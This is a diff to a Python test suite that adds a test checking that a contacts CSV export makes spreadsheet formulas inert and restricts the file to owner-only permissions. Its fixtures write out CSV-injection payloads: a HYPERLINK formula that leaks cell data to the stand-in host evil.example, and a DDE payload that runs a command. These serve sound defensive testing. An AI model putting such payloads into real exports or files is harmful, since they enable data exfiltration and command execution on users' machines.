@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import stat
 import subprocess
 from pathlib import Path
 
@@ -80,3 +81,32 @@ def test_export_needs_credentials(org: Org) -> None:
     wrong = run("export", "--url", org.server.url, "--token", "nope")
     assert wrong.returncode == 1
     assert "404" in wrong.stderr
+
+
+def test_export_makes_formulas_inert_and_is_readable_by_its_owner_only(
+    org: Org, tmp_path: Path
+) -> None:
+    hostile = contact(
+        "919870200001",
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "@SUM(1+1)",
+        company="+cmd|' /C calc'!A0",
+        job_title="-2+3",  # only digits and phone punctuation: no formula, left as it is
+    )
+    assert org.add([hostile]).status_code == 200
+    target = tmp_path / "contacts.csv"
+    target.write_text("an older export\n")
+    target.chmod(0o644)
+    done = run("export", "--url", org.server.url, "--token", org.token, "-o", str(target))
+    assert done.returncode == 0, done.stderr
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+    with target.open(newline="", encoding="utf-8") as file:
+        [row] = list(csv.DictReader(file))
+    assert row["first_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert row["last_name"] == "'@SUM(1+1)"
+    assert row["company"] == "'+cmd|' /C calc'!A0"
+    assert row["job_title"] == "-2+3"
+    assert row["phone_no"] == "919870200001"
+    # JSON lines are data, not a spreadsheet: kept as stored.
+    jsonl = run("export", "--url", org.server.url, "--token", org.token, "--format", "jsonl")
+    assert json.loads(jsonl.stdout)["company"] == "+cmd|' /C calc'!A0"
